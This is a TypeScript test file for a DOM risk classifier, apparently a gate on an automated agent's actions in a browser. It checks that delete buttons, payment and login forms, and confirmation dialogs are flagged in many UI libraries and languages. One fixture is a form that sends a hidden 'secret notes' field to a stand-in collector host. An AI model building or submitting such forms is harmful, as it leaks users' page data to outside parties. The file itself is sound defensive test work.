// @vitest-environment happy-dom
import { beforeEach, describe, expect, it } from 'vitest'
import fc from 'fast-check'
import { riskOf } from '../../src/dom/risk'
import { domAction } from '../../src/core/vocabulary'

/** The facts src/dom/risk.ts reads off a page, on fixture markup. */

function mount(html: string): void {
  document.body.innerHTML = html
}
const el = (sel: string) => document.querySelector(sel)!
/** The risk of an action as the page's gate reads it: its descriptor's `gate.risk`. */
const risk = (sel: string, action: 'click' | 'press' = 'click') =>
  riskOf(el(sel), domAction(action).gate.risk!)?.category ?? null

beforeEach(() => mount(''))

describe('icons and names', () => {
  const kIconOnly = [
    '<button id=t>🗑</button>',
    '<button id=t><i class="fa fa-trash"></i></button>',
    '<button id=t class="el-button el-button--default is-circle"><i class="el-icon-delete"></i></button>',
    '<button id=t class="ant-btn ant-btn-icon-only"><span role="img" class="anticon anticon-delete"><svg></svg></span></button>',
    '<button id=t><i class="bi bi-trash3"></i></button>',
    '<button id=t><span class="material-icons">delete</span></button>',
    '<button id=t><svg viewBox="0 0 10 10"><title>Löschen</title><path d="M0 0"/></svg></button>',
    '<button id=t><svg><use href="/icons.svg#icon-trash"></use></svg></button>',
    '<button id=t><img src="/img/trash-can.png" alt=""></button>',
    '<button id=t aria-label="Supprimer"><span class="x"></span></button>',
    '<button id=t title="削除する"></button>',
    '<span id=t role=button tabindex=0 aria-labelledby="l"></span><span id=l>Entfernen</span>',
  ]
  it('an icon-only delete button, whatever the icon library, asks as destructive', () => {
    fc.assert(
      fc.property(fc.constantFrom(...kIconOnly), (html) => {
        mount(html)
        expect(risk('#t')).toBe('destructive')
      }),
      { numRuns: 60 },
    )
  }, 30_000)

  it('a benign aria-label or hidden padding does not hide a visible "Delete"', () => {
    mount(
      `<button id=a aria-label="Save">Delete</button><button id=b><span hidden>${'Save '.repeat(200)}</span>Dele\u200Bte</button>`,
    )
    expect([risk('#a'), risk('#b')]).toEqual(['destructive', 'destructive'])
  })

  it('ordinary buttons and links are not asked about', () => {
    mount(`<form id=search action="/search" method=get><input name=q value="shoes"><button id=go>Search</button><input id=submit type=submit value=Submit></form>
      <button id=save class="el-button el-button--primary">保存</button><a id=next href="/page/2">Next</a><button id=close aria-label="Close"><i class="fa fa-xmark"></i></button>
      <button id=star><i class="fa fa-star"></i></button><a id=product href="/p/1">Blue sneakers $89</a><button id=cancel class="btn btn-secondary">Cancel</button>`)
    expect(
      ['#go', '#submit', '#save', '#next', '#close', '#star', '#product', '#cancel'].map((s) => [s, risk(s)]),
    ).toEqual(['#go', '#submit', '#save', '#next', '#close', '#star', '#product', '#cancel'].map((s) => [s, null]))
    expect(risk('#search input[name=q]', 'press')).toBeNull()
  })
})

describe('component hints and context', () => {
  const kDanger = [
    'class="el-button el-button--danger"',
    'class="ant-btn ant-btn-dangerous"',
    'class="btn btn-danger"',
    'class="btn btn-outline-danger"',
    'variant="danger"',
    'data-variant="destructive"',
    'class="bx--btn bx--btn--danger"',
    'class="Polaris-Button Polaris-Button--destructive"',
    'class="MuiButton-root MuiButton-colorError"',
  ]
  it('a danger-styled button with an unknown name is destructive; one that backs out is not', () => {
    fc.assert(
      fc.property(fc.constantFrom(...kDanger), fc.constantFrom('Yes', 'Do it', '确定', 'OK', ''), (attrs, name) => {
        mount(`<button id=t ${attrs}>${name}</button><button id=c ${attrs}>Cancel</button>`)
        expect(risk('#t')).toBe('destructive')
        expect(risk('#c')).toBeNull()
      }),
      { numRuns: 60 },
    )
  }, 30_000)

  it('the confirming button of a dialog about deleting or paying asks; Cancel and the close icon do not', () => {
    mount(`<div role=alertdialog aria-modal=true><p>Delete 3 files? This cannot be undone.</p><button id=x class="close"><i class="el-icon-close"></i></button><button id=no>Cancel</button><button id=ok class=primary>OK</button></div>
      <dialog open id=pay><p>You are about to pay ¥12,800.</p><button id=pok>確定</button><button id=pno>キャンセル</button></dialog>
      <div role=dialog><p>Your changes were saved.</p><button id=fine>OK</button></div>`)
    expect([risk('#ok'), risk('#no'), risk('#x'), risk('#pok'), risk('#pno'), risk('#fine')]).toEqual([
      'destructive',
      null,
      null,
      'payment',
      null,
      null,
    ])
  })

  it('a bare button in a row that says it is permanent asks', () => {
    mount(`<table><tr><td>Project Apollo</td><td>Archiving removes it permanently</td><td><button id=t><i class="fa fa-box-archive"></i></button></td></tr>
      <tr><td>Project Zeus</td><td><button id=u><i class="fa fa-box-archive"></i></button></td></tr></table>`)
    expect([risk('#t'), risk('#u')]).toEqual(['destructive', null])
  })
})

describe('forms', () => {
  it('password → credentials, card fields → payment, data to another origin → data_send (button or Enter)', () => {
    mount(`<form id=login action="/login" method=post><input name=user value=bob><input id=pw type=password name=pw><button id=li>Anmelden</button></form>
      <form id=card action="/pay"><input autocomplete="cc-number" name=n><button id=cc>Weiter</button></form>
      <form id=leak action="https://collector.example/c" method=get><input type=hidden name=page value="secret notes"><input id=q name=q><button id=send type=submit>Search</button></form>
      <form id=empty action="https://other.example/" method=get><input id=eq name=q><button id=go type=submit>Go</button></form>
      <div class=spa><input type=password value=hunter2><div><button id=spa type=button>Sign in</button></div></div>`)
    expect(risk('#li')).toBe('credentials')
    expect(risk('#pw', 'press')).toBe('credentials')
    expect(risk('#cc')).toBe('payment')
    expect(risk('#send')).toBe('data_send')
    expect(risk('#q', 'press')).toBe('data_send')
    expect(riskOf(el('#send'), 'pointer')?.reason).toContain('collector.example')
    // Nothing filled in: leaving the site is the navigation gate's question, not a sending of data.
    expect(risk('#go')).toBeNull()
    expect(risk('#spa')).toBe('credentials')
  })
})
